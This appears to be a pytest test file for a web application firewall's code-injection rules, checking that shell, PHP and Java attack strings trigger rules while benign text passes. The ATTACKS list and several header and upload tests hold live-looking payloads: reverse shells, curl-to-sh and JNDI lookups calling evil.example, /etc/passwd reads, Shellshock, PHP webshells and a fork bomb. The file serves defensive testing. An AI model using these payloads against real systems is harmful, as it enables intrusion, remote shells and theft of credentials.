"""Bundled rules, code-injection families (40-rce, 50-php, 55-java): attacks fire, benign pass."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from bastion.waf import Ruleset
from tests.waf.rule_requests import fired

FAMILIES = ("bst-rce-", "bst-php-", "bst-java-")


def ours(ids: set[str]) -> set[str]:
    return {i for i in ids if i.startswith(FAMILIES)}


def query_fires(ruleset: Ruleset, value: str) -> set[str]:
    return ours(fired(ruleset, target="/search?q=" + quote(value, safe="")))


ATTACKS = {
    "bst-rce-": [
        "127.0.0.1;cat /etc/passwd",
        "x|nc 10.0.0.1 4444 -e /bin/sh",
        "$(curl http://evil.example/x.sh|sh)",
        "www.example.com;/bin/ca? /et*/passwd",
        "a;c''at /etc/shadow",
        "for /f %i in ('whoami') do echo %i",
        "; powershell -nop -w hidden -enc SQBFAFgA",
        "() { :;}; /bin/bash -c id",
        ":(){ :|:& };:",
        "\r\nMAIL FROM:<a@b.example>",
    ],
    "bst-php-": [
        "<?php system($_GET['c']); ?>",
        "<?=`id`?>",
        "php://filter/convert.base64-encode/resource=index.php",
        'O:8:"stdClass":1:{s:1:"a";i:2;}',
        "eval(base64_decode('ZWNobyAxOw=='))",
        "shell_exec /* x */ ('id')",
        "$f = 'sys'.'tem'; $f('id');",
        "('system')('id')",
        "allow_url_include=1",
        "system(id);",
        "<?=1;echo 1;",
    ],
    "bst-java-": [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "java.lang.ProcessBuilder",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    ],
}

BENIGN = [
    "hello world",
    "I have a cat; she likes ping pong",
    "cat & dog",
    "rock|paper|scissors",
    "Terms & Conditions; Privacy",
    "rm -rf is dangerous",
    "ping pong tables",
    "${price}",
    "Hello ${user.name}",
    "java.util.List",
    "How do I convert a java.util.List to an array?",
    "Operating system (Windows 10)",
    "report_final(1).pdf",
    "my_photo(1).png",
    "C:\\Users\\me\\Documents",
    "Use `ls -la` to list files",
    "if x == y: print(x)",
    "function foo() { return a || b; }",
    "Je pense, donc je suis; tu es là & moi aussi.",
    "北京是中国的首都；上海是最大的城市。",
    "Москва — столица России; население ~13 млн.",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
    '{"name": "John", "tags": ["a", "b"]}',
    "<?xml version=\"1.0\"?><order><id>1</id></order>",
    "Price: $5 | Free shipping; time limited",
    "Upload your file(s) here",
    "the mail(s) you sent",
    "see chmod(2) and mkdir(1)",
    "Use printf(name) to print it",
    "~+",
    "~-",
    "p4ss<?=!@#$%^&",
]


@pytest.mark.parametrize(("family", "value"),
                         [(f, v) for f, values in ATTACKS.items() for v in values])
def test_attacks_fire(ruleset: Ruleset, family: str, value: str) -> None:
    ids = query_fires(ruleset, value)
    assert any(i.startswith(family) for i in ids), (value, ids)


@pytest.mark.parametrize("value", BENIGN)
def test_benign_values_pass(ruleset: Ruleset, value: str) -> None:
    assert not query_fires(ruleset, value)
    body = ("text=" + quote(value, safe="")).encode()
    headers = [("content-type", "application/x-www-form-urlencoded")]
    assert not ours(fired(ruleset, "POST", "/post", headers, body))


def test_browser_request_passes(ruleset: Ruleset) -> None:
    headers = [
        ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                       "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"),
        ("accept-language", "en-US,en;q=0.9"),
        ("referer", "https://www.example.com/products?page=2&sort=price"),
        ("cookie", "session=abc123; theme=dark"),
    ]
    assert not ours(fired(ruleset, "GET", "/products?q=running+shoes&size=42&color=blue", headers))


def test_shell_injection_in_user_agent(ruleset: Ruleset) -> None:
    agent = "() { :;}; /bin/cat /etc/passwd"
    assert "bst-rce-003" in fired(ruleset, headers=[("user-agent", agent)])


def test_log4shell_in_header(ruleset: Ruleset) -> None:
    assert "bst-java-001" in fired(ruleset, headers=[("x-api-version", "${jndi:ldap://x.example/a}")])


def test_parameter_name_injection(ruleset: Ruleset) -> None:
    assert "bst-rce-002" in fired(ruleset, target="/?" + quote(";cat /etc/passwd") + "=1")


def test_php_upload_name(ruleset: Ruleset) -> None:
    body = (b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.phtml\"\r\n"
            b"Content-Type: text/plain\r\n\r\n<?php ?>\r\n--b--\r\n")
    ids = fired(ruleset, "POST", "/upload", [("content-type", "multipart/form-data; boundary=b")],
                body)
    assert "bst-php-011" in ids
